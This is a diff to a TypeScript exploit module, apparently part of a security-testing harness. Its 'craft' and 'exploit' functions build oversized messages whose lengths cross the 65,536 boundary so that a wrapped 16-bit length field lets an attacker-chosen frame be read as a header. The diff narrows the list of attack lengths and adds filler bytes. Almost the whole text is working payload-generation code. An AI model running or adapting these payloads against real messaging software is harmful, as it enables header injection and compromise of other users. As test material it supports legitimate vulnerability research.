@@ -38,6 +38,8 @@ function craft(sender: string, length: number, frame: Buffer): Buffer {
   // What begins within the name is a header that the attacker hasn't chosen.
   while (at < head.length) at += 3 + body.readUInt16BE(at + 1)
   frame.copy(body, at)
+  // The rest is one long frame: zeros would be thousands of short ones.
+  body.fill(0xff, at + frame.length)
   return body.subarray(head.length)
 }
 
@@ -45,7 +47,8 @@ export function exploit({ sendMessage }: Code, vary: Vary): Breach | false {
   const sender = vary.word()
   const frame = Buffer.concat([Buffer.from([3, 0, sender.length]), Buffer.from(sender)])
   const fill = (bytes: Buffer, length: number) => Buffer.concat([bytes, Buffer.alloc(length - bytes.length, 'A')])
-  const lengths = [65_536, 65_537, 65_538, 65_536 + sender.length + 1, 65_600, vary.number(65_601, 80_000), 131_072, 131_072 + vary.number(1, 4000), 1024 * 1024]
+  // The first lengths that don't fit, one that ends within the name, and more than one time around.
+  const lengths = [65_536, 65_537, vary.pick([65_538, 65_536 + sender.length + 1, 65_600]), vary.number(65_601, 72_000), 131_072 + vary.number(0, 2000)]
   const attacks = [
     ...lengths.map((length) => craft(sender, length, frame)),
     Buffer.concat([Buffer.alloc(65_535 - sender.length - 1, 'A'), frame]),
